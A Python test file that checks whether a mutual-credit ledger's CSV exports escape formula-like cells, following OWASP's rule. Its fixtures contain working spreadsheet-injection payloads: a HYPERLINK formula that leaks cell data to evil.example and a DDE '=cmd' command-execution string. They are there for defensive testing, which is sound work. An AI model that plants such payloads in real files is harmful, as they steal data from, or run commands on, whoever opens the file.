"""Every CSV we write is safe in a spreadsheet: formula-like text cells get a leading ``'``.

OWASP's rule against CSV injection: a text cell beginning with ``=``, ``+``,
``-``, ``@``, TAB or CR is prefixed with ``'``; a number such as ``-30.00`` is
left as it is.  Checked on the one function and on both CSV writers through the
installed command (``export csv`` and ``report settlement --format csv``).
"""

from __future__ import annotations

import csv
import io
import os
from fractions import Fraction
from pathlib import Path

import pytest

from mutualcredit.domain.csv_cells import FORMULA_PREFIXES, csv_cell, csv_row
from mutualcredit.services import network as setup
from mutualcredit.services.keys import Signer
from tests.support import make_network, run_cli

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MEMOS = (LINK, "@SUM(A1:A9)", "+1", "-x", "a=b", "-30.00")  # memos hold no TAB or CR


@pytest.mark.parametrize(("value", "written"), [
    (LINK, "'" + LINK), ("@SUM(A1)", "'@SUM(A1)"), ("+1", "'+1"), ("-x", "'-x"),
    ("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("-1+2", "'-1+2"),
    ("+30.00", "'+30.00"), ("-30.00", "-30.00"), ("-7", "-7"), ("30.00", "30.00"),
    ("ana", "ana"), ("a=b", "a=b"), ("", ""), (" =1", " =1"), (42, 42), (None, None),
])  # fmt: skip
def test_csv_cell(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_the_prefixes_are_owasps() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    assert csv_row(["=x", "-1.50", 3]) == ["'=x", "-1.50", 3]


@pytest.fixture(scope="module")
def ledger_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv")
    saved = os.environ.get("MUTUALCREDIT_NOW")
    try:
        os.environ["MUTUALCREDIT_NOW"] = "2026-11-02T10:00:00-03:00"
        net = make_network(str(root / "ledger.db"))
        setup.add_collective(
            net.ledger,
            net["banco"],
            slug="evil",
            name="@SUM(A1:A9)",
            currency="EVIL",
            rate=Fraction(1),
        )
        mallory = Signer.generate("mal")
        setup.add_member(
            net.ledger,
            net["banco"],
            handle="mal",
            collective="cubo",
            public_key=mallory.public_key,
            name="=cmd|' /C calc'!A0",
        )
        for index, memo in enumerate(MEMOS):  # 30.00, then 5.00 each: 55.00
            net.pay("ana", "bia", "5.00" if index else "30.00", memo=memo)
        net.ledger.engine.dispose()
    finally:
        os.environ.pop("MUTUALCREDIT_NOW")
        if saved is not None:
            os.environ["MUTUALCREDIT_NOW"] = saved
    return root


def mc(root: Path, *args: str) -> list[dict[str, str]]:
    result = run_cli(
        "--db",
        str(root / "ledger.db"),
        *args,
        env={
            "MUTUALCREDIT_HOME": str(root / "home"),
            "MUTUALCREDIT_NOW": "2026-12-02T12:00:00-03:00",
        },
    )
    assert result.returncode == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


def test_export_csv_neutralises_memos_and_keeps_amounts(ledger_dir: Path) -> None:
    rows = mc(ledger_dir, "export", "csv")
    memos = [row["memo"] for row in rows if row["account"] == "members:ana"]
    assert memos == ["'" + LINK, "'@SUM(A1:A9)", "'+1", "'-x", "a=b", "-30.00"]
    assert [row["amount"] for row in rows if row["account"] == "members:ana"][:2] == [
        "-30.00",
        "-5.00",
    ]
    assert {row["amount"] for row in rows if row["account"] == "members:bia"} == {"30.00", "5.00"}


def test_report_settlement_csv_neutralises_names_and_keeps_amounts(ledger_dir: Path) -> None:
    rows = mc(ledger_dir, "report", "settlement", "--period", "2026-11", "--format", "csv")
    collectives = {row["collective"]: row for row in rows if row["section"] == "collective"}
    assert collectives["evil"]["name"] == "'@SUM(A1:A9)"
    members = {row["member"]: row for row in rows if row["section"] == "member"}
    assert members["mal"]["name"] == "'=cmd|' /C calc'!A0"
    assert members["ana"]["closing"] == "-55.00" and members["ana"]["out"] == "55.00"
    assert all(
        not cell.startswith("'")
        for row in rows
        for key, cell in row.items()
        if key not in ("name",)
    )
